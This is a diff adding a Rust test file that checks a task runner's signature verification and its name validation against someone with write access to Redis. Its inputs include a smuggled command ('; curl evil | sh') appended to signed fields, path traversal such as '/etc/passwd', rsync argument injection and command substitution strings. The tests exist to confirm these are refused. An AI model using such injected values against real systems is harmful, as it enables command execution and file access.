@@ -1,0 +1,252 @@
+//! What somebody who can write to Redis may try: each case alone is refused.
+
+use rrr::key::{TaskKey, TasksetKey, rsync_name_error, spec_file_error};
+use rrr::trust::{self, FIELDS, SIGNATURE, Signer, Trust};
+use std::collections::HashMap;
+
+const NOW: i64 = 1_800_000_000;
+const FILES: [&str; 3] = ["a.sh", "b.sh", "c.sh"];
+
+type Fields = HashMap<String, String>;
+
+struct World {
+    _folder: tempfile::TempDir,
+    trust: Trust,
+    signer: Signer,
+    stranger: Signer,
+    taskset: TasksetKey,
+}
+
+impl World {
+    fn new() -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        let path = |name: &str| folder.path().join(name);
+        trust::generate(&path("key")).unwrap();
+        trust::generate(&path("other")).unwrap();
+        Self {
+            trust: Trust::load(&path("key.pub")).unwrap(),
+            signer: Signer::load(&path("key")).unwrap(),
+            stranger: Signer::load(&path("other")).unwrap(),
+            taskset: "rrrspec:taskset:t".parse().unwrap(),
+            _folder: folder,
+        }
+    }
+
+    fn unsigned(&self) -> Fields {
+        let mut fields: Fields = FIELDS
+            .iter()
+            .map(|name| ((*name).to_owned(), format!("the {name}")))
+            .collect();
+        let digest = trust::digest(FILES.into_iter());
+        fields.insert("tasks_digest".into(), digest);
+        fields
+    }
+
+    fn signed(&self) -> Fields {
+        let mut fields = self.unsigned();
+        self.signer.sign(&self.taskset, &mut fields, NOW, 3600);
+        fields
+    }
+
+    fn check(&self, fields: &Fields) -> Result<(), String> {
+        self.trust
+            .check(&self.taskset, fields, FILES.into_iter(), NOW)
+    }
+}
+
+#[test]
+fn what_was_signed_is_trusted() {
+    let world = World::new();
+    assert_eq!(world.check(&world.signed()), Ok(()));
+    let mut more = world.signed();
+    more.insert("status".into(), "running".into());
+    assert_eq!(
+        world.check(&more),
+        Ok(()),
+        "fields of the run are not the submitter's"
+    );
+}
+
+#[test]
+fn no_signed_field_can_be_changed_in_any_way() {
+    let world = World::new();
+    let mut cases = 0;
+    for name in FIELDS.iter().chain([&SIGNATURE]) {
+        let value = world.signed()[*name].clone();
+        let changed = [
+            None,
+            Some(String::new()),
+            Some(format!("{value} ")),
+            Some(format!("{value}\n")),
+            Some(format!("{value}; curl evil | sh")),
+            Some(value[1..].to_owned()),
+            Some(value.to_uppercase() + "0"),
+        ];
+        for new in changed {
+            let mut fields = world.signed();
+            match new.clone() {
+                None => fields.remove(*name),
+                Some(new) => fields.insert((*name).to_owned(), new),
+            };
+            assert!(world.check(&fields).is_err(), "{name}: {new:?}");
+            cases += 1;
+        }
+    }
+    assert_eq!(cases, 91);
+}
+
+#[test]
+fn text_cannot_be_moved_from_one_field_to_the_next() {
+    let world = World::new();
+    for pair in FIELDS.windows(2) {
+        let mut fields = world.signed();
+        let both = format!("{}{}", fields[pair[0]], fields[pair[1]]);
+        fields.insert(pair[0].into(), both);
+        fields.insert(pair[1].into(), String::new());
+        assert!(world.check(&fields).is_err(), "{pair:?}");
+    }
+}
+
+#[test]
+fn a_signature_is_worth_nothing_elsewhere_or_at_another_time_or_of_another() {
+    let world = World::new();
+    let signed = world.signed();
+    let other: TasksetKey = "rrrspec:taskset:u".parse().unwrap();
+    let at = |taskset: &TasksetKey, now: i64| {
+        world.trust.check(taskset, &signed, FILES.into_iter(), now)
+    };
+    assert!(at(&other, NOW).is_err(), "replayed under another id");
+    assert!(at(&world.taskset, NOW + 3601).unwrap_err().contains("over"));
+    assert!(
+        at(&world.taskset, NOW - 301)
+            .unwrap_err()
+            .contains("future")
+    );
+    assert_eq!(
+        at(&world.taskset, NOW - 299),
+        Ok(()),
+        "clocks differ a little"
+    );
+    assert_eq!(at(&world.taskset, NOW + 3600), Ok(()));
+    let mut fields = world.unsigned();
+    world.stranger.sign(&world.taskset, &mut fields, NOW, 3600);
+    assert!(
+        world
+            .check(&fields)
+            .unwrap_err()
+            .contains("not signed by a key")
+    );
+    assert!(
+        world
+            .check(&world.unsigned())
+            .unwrap_err()
+            .contains("not signed")
+    );
+}
+
+#[test]
+fn the_list_of_tasks_cannot_be_changed() {
+    let world = World::new();
+    let lists: [&[&str]; 9] = [
+        &[],
+        &["a.sh"],
+        &["a.sh", "b.sh"],
+        &["a.sh", "b.sh", "c.sh", "d.sh"],
+        &["a.sh", "b.sh", "d.sh"],
+        &["b.sh", "a.sh", "c.sh"],
+        &["a.sh", "b.sh", "c.sh", "c.sh"],
+        &["a.shb.sh", "c.sh"],
+        &["a.s", "hb.sh", "c.sh"],
+    ];
+    for list in lists {
+        let files = list.iter().copied();
+        let refused = world
+            .trust
+            .check(&world.taskset, &world.signed(), files, NOW);
+        assert!(refused.unwrap_err().contains("list of tasks"), "{list:?}");
+    }
+}
+
+#[test]
+fn keys_that_are_none_or_that_others_can_read_are_refused() {
+    use std::os::unix::fs::PermissionsExt;
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("key");
+    trust::generate(&path).unwrap();
+    assert!(trust::generate(&path).is_err(), "no key is overwritten");
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o640)).unwrap();
+    assert!(Signer::load(&path).is_err());
+    let secret = std::fs::read_to_string(&path).unwrap();
+    let zero = format!("rrr-ed25519-public {}=", "A".repeat(43));
+    let texts = [
+        "",
+        "# nobody",
+        "rrr-ed25519-public",
+        "rrr-ed25519-public AAAA",
+        &secret,
+        &zero,
+        "ssh-ed25519 x",
+    ];
+    for text in texts {
+        let file = folder.path().join("trust");
+        std::fs::write(&file, text).unwrap();
+        assert!(Trust::load(&file).is_err(), "{text:?}");
+    }
+}
+
+#[test]
+fn names_that_leave_the_working_folder_are_refused() {
+    let names = [
+        "",
+        ".",
+        "..",
+        "/",
+        "/etc",
+        "../x",
+        "a/b",
+        "a/../b",
+        "-e",
+        "--delete",
+        " ",
+        "a b",
+        "a\n",
+        "a\0b",
+        ".git",
+        "_x",
+        "~",
+        "$HOME",
+        "`id`",
+        "a;b",
+        "a:b",
+        "a*",
+        "ü",
+        "a\\b",
+        "host::module",
+    ];
+    for name in names {
+        assert!(rsync_name_error(name).is_some(), "{name:?}");
+    }
+    assert!(rsync_name_error(&"a".repeat(65)).is_some());
+    let files = [
+        "",
+        "/",
+        "/etc/passwd",
+        "..",
+        "../x",
+        "a/..",
+        "a/../../b",
+        "./../x",
+        "a\0b",
+        "a\nb",
+        "a\tb",
+        "\x1b[2J",
+        "a:trial:1",
+        ":trial:",
+        "x:trial",
+    ];
+    for file in files {
+        assert!(spec_file_error(file).is_some(), "{file:?}");
+        let key = format!("rrrspec:taskset:t:task:{file}");
+        assert!(key.parse::<TaskKey>().is_err(), "{key:?}");
+    }
+}
